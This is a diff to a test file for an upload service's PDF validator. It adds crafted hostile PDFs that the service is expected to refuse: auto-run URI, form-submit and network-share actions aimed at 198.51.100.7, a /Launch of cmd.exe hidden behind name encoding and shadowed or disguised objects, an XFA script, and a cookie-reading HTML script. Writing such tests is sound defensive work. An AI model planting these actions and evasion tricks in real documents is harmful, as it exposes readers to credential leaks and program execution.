@@ -11,6 +11,7 @@ import {
   type Harness,
   type TestFile,
 } from './harness';
+import { pdfOfObjects, streamObject } from '../testing/pdf-bombs';
 
 let h: Harness;
 beforeAll(async () => {
@@ -18,32 +19,7 @@ beforeAll(async () => {
 });
 afterAll(() => h?.close());
 
-/** A PDF of these numbered objects (1 is the catalog), with its cross-reference table. */
-function pdfOf(objects: (string | Buffer)[], after = ''): Buffer {
-  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
-  const offsets: number[] = [];
-  let length = parts[0]?.length ?? 0;
-  objects.forEach((body, i) => {
-    offsets.push(length);
-    const chunk = Buffer.concat([
-      Buffer.from(`${i + 1} 0 obj\n`),
-      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
-      Buffer.from('\nendobj\n'),
-    ]);
-    parts.push(chunk);
-    length += chunk.length;
-  });
-  const xref = [
-    'xref',
-    `0 ${objects.length + 1}`,
-    '0000000000 65535 f ',
-    ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n `),
-    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>`,
-    `startxref\n${length}\n%%EOF\n${after}`,
-  ].join('\n');
-  parts.push(Buffer.from(xref, 'latin1'));
-  return Buffer.concat(parts);
-}
+const pdfOf = pdfOfObjects;
 
 const PAGES = [
   '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
@@ -51,14 +27,8 @@ const PAGES = [
 ];
 
 /** A stream object holding `text` deflated. */
-function deflated(dictionary: string, text: string): Buffer {
-  const data = deflateSync(Buffer.from(text, 'latin1'));
-  return Buffer.concat([
-    Buffer.from(`<< ${dictionary} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`),
-    data,
-    Buffer.from('\nendstream'),
-  ]);
-}
+const deflated = (dictionary: string, text: string) =>
+  streamObject(dictionary, '/FlateDecode', deflateSync(Buffer.from(text, 'latin1')));
 
 const asPdf = (bytes: Buffer, name = 'doc.pdf'): TestFile => ({
   name,
@@ -124,6 +94,93 @@ const CRAFTED: [string, Buffer][] = [
     ]),
   ],
   [
+    'an XFA form with a script',
+    pdfOf([
+      '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>',
+      ...PAGES,
+      deflated(
+        '',
+        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><field><event activity="initialize">' +
+          '<script contentType="application/x-javascript">app.alert(1)</script></event></field></subform></template></xdp:xdp>',
+      ),
+    ]),
+  ],
+  [
+    'a link to a file on a network share (/GoToR to a UNC path)',
+    pdfOf([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      PAGES[0] as string,
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
+      '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >> >>',
+    ]),
+  ],
+  [
+    'a web address opened by itself (/OpenAction /URI)',
+    pdfOf([
+      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://198.51.100.7/opened) >> >>',
+      ...PAGES,
+    ]),
+  ],
+  [
+    'a web address opened by a chained action (/OpenAction /GoTo then /Next /URI)',
+    pdfOf([
+      '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
+      ...PAGES,
+      '<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (http://198.51.100.7/next) >>] >>',
+    ]),
+  ],
+  [
+    'a form sent as the page opens (/AA … /SubmitForm)',
+    pdfOf([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      PAGES[0] as string,
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /SubmitForm /F << /FS /URL /F (http://198.51.100.7/s) >> /Flags 4 >> >> >>',
+    ]),
+  ],
+  [
+    'form data imported from a file (/ImportData)',
+    pdfOf([
+      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /ImportData /F (\\\\\\\\198.51.100.7\\\\d.fdf) >> >>',
+      ...PAGES,
+    ]),
+  ],
+  [
+    'a Flash or media player (/RichMedia)',
+    pdfOf([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      PAGES[0] as string,
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
+      '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> >> >>',
+    ]),
+  ],
+  [
+    'a program launched as the page closes (/AA /C /Launch /Win)',
+    pdfOf([
+      '<< /Type /Catalog /Pages 2 0 R >>',
+      PAGES[0] as string,
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /C << /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >> >> >>',
+    ]),
+  ],
+  [
+    'a /Launch in the object the cross-reference table names, replaced later in the file',
+    pdfOf(
+      [
+        '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
+        ...PAGES,
+        '<< /S /Launch /F (cmd.exe) >>',
+      ],
+      '4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n',
+    ),
+  ],
+  [
+    'a /Launch in a stream a viewer reads as an object stream (/N and /First, no /Type)',
+    pdfOf([
+      '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
+      ...PAGES,
+      deflated('/N 1 /First 4', '5 0 << /S /Launch /F (cmd.exe) >>'),
+    ]),
+  ],
+  [
     'HTML right after the header',
     Buffer.concat([
       Buffer.from('%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n'),
@@ -153,11 +210,14 @@ describe('PDFs are parsed before they are stored', () => {
     });
   }
 
-  it('accepts a PDF that opens at its first page, and refuses a script on the acknowledgement too', async () => {
+  it('accepts a PDF that opens at its first page with a web link, and refuses a script on the acknowledgement too', async () => {
     const club = await h.club();
+    // A link to a web page is kept: the reader chooses to follow it.
     const opensAtPage = pdfOf([
       '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
-      ...PAGES,
+      PAGES[0] as string,
+      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
+      '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://example.org/) >> >>',
     ]);
     const applied = await applyWith(h, club, opensAtPage);
     expect(applied.statusCode).toBe(201);
